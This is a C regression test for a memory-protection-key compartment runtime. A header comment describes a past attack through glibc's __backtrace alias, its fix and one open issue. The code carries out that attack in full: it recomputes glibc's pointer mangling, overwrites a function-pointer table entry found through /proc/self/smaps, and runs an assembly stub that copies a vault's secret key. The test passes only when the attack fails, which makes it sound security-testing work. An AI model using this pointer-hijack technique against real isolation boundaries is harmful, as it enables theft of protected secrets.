// Review 26, attacker model A (key-0 loads and stores, no system call).
// Review 25's fix (attacks-rev25-backtrace-link.c): the runtime defines
// backtrace, which the program's and every library's calls reach first,
// and calls _Unwind_Backtrace through the executable's read-only GOT, not
// through glibc's key-0 table of libgcc_s's functions. glibc exports the
// same function under a second name, __backtrace (GLIBC_2.2.5; backtrace
// is its weak alias), which the runtime does not define: a compartment
// that calls __backtrace reaches glibc's, as shared code, with its own
// rights, and glibc's reads the table. The attack is review 25's: the
// program finds the table's mangled _Unwind_Backtrace word by its
// contents and stores the mangled address of steal there; the vault's
// __backtrace runs it with the vault's rights, which copies the vault's
// key into the program's buffer (ATTACK SUCCEEDED; seen in the guest,
// review 26). The control stores nothing. Low: the victim must use the
// alias (dlsym(RTLD_NEXT, "backtrace") from a compartment would be the
// same: not run).
// Fixed: the runtime defines __backtrace as an alias of its backtrace
// (runtime/unwind.c). Open: a compartment that calls glibc's through a
// pointer from dlsym(RTLD_NEXT, ...) (dlsym'd pointers run shared code
// with the caller's rights: threat model, "Function-pointer identity").
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -ldl -o %t
// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
// RUN: %run %t | FileCheck %s
// CONTROL: the vault's backtrace: frames
// CONTROL-NEXT: nothing stolen
// CHECK: libc's words for _Unwind_Backtrace: 1
// CHECK: the vault's backtrace: frames
// CHECK-NOT: ATTACK SUCCEEDED
#define _GNU_SOURCE
#include <bulkhead.h>
#include <dlfcn.h>
#include <execinfo.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";

/* glibc's other public name for its backtrace (GLIBC_2.2.5). */
int __backtrace(void **, int);
BULKHEAD_ENTRY(vault) int vault_trace(void) {
  void *frames[8];
  return __backtrace(frames, 8);
}

static char stolen[32];
static const char *volatile from = vault_key; /* key-0 words */
static char *volatile to = stolen;
int (*volatile real)(void *, void *);

__attribute__((used)) void copy(void) {
  for (int i = 0; i < 31; i++)
    to[i] = from[i];
}
/* copy, then on to libgcc_s's function: in asm, since a pointer call in
 * the program's C code is followed by the default domain's gate back. */
__asm__(".text\n"
        ".globl steal\n"
        ".type steal, @function\n"
        "steal:\n"
        "  pushq %rdi\n"
        "  pushq %rsi\n"
        "  subq $8, %rsp\n"
        "  call copy\n"
        "  addq $8, %rsp\n"
        "  popq %rsi\n"
        "  popq %rdi\n"
        "  jmpq *real(%rip)\n"
        ".size steal, .-steal\n");

/* glibc's PTR_MANGLE on x86-64: xor with the guard, rotate left 17. */
static uintptr_t mangle(uintptr_t p) {
  uintptr_t guard;
  __asm__("mov %%fs:0x30, %0" : "=r"(guard)); /* a key-0 load */
  p ^= guard;
  return p << 17 | p >> 47;
}

/* Replaces every key-0 writable word holding OLD by NEW; how many. */
static int replace(uintptr_t old, uintptr_t new) {
  FILE *f = fopen("/proc/self/smaps", "r");
  char line[512];
  uintptr_t lo = 0, hi = 0;
  int rw = 0, n = 0, key;
  while (f && fgets(line, sizeof line, f)) {
    uintptr_t l, h;
    char perms[8];
    if (sscanf(line, "%lx-%lx %4s", &l, &h, perms) == 3) {
      lo = l, hi = h, rw = perms[0] == 'r' && perms[1] == 'w';
      rw = rw && !strstr(line, "[stack]"); /* a dead copy of glibc's */
      continue;
    }
    if (sscanf(line, "ProtectionKey: %d", &key) != 1 || !rw || key)
      continue;
    for (uintptr_t *w = (uintptr_t *)lo; w + 1 <= (uintptr_t *)hi; w++)
      if (*w == old) {
        *w = new; /* the one store that matters */
        n++;
      }
  }
  if (f)
    fclose(f);
  return n;
}

int main(int argc, char **argv) {
  (void)argv;
  void *first[4];
  /* glibc's own backtrace (the program's name is the runtime's): it
   * loads libgcc_s and fills its table now. */
  int (*glibc_backtrace)(void **, int) =
      (int (*)(void **, int))dlsym(RTLD_NEXT, "backtrace");
  if (!glibc_backtrace || glibc_backtrace(first, 4) < 1) {
    puts("no glibc backtrace");
    return 1;
  }
  if (argc < 2) {
    void *gcc = dlopen("libgcc_s.so.1", RTLD_NOW | RTLD_NOLOAD);
    real = gcc ? (int (*)(void *, void *))dlsym(gcc, "_Unwind_Backtrace") : 0;
    if (!real) {
      puts("no libgcc_s");
      return 1;
    }
    uintptr_t p;
    __asm__("leaq steal(%%rip), %0" : "=r"(p));
    printf("libc's words for _Unwind_Backtrace: %d\n",
           replace(mangle((uintptr_t)real), mangle(p)));
  }
  printf("the vault's backtrace: %s\n", vault_trace() > 1 ? "frames" : "none");
  if (strstr(stolen, "TOP-SECRET")) {
    printf("ATTACK SUCCEEDED: the vault's key in the program's memory: %s\n",
           stolen);
    return 0;
  }
  puts("nothing stolen");
  return 0;
}
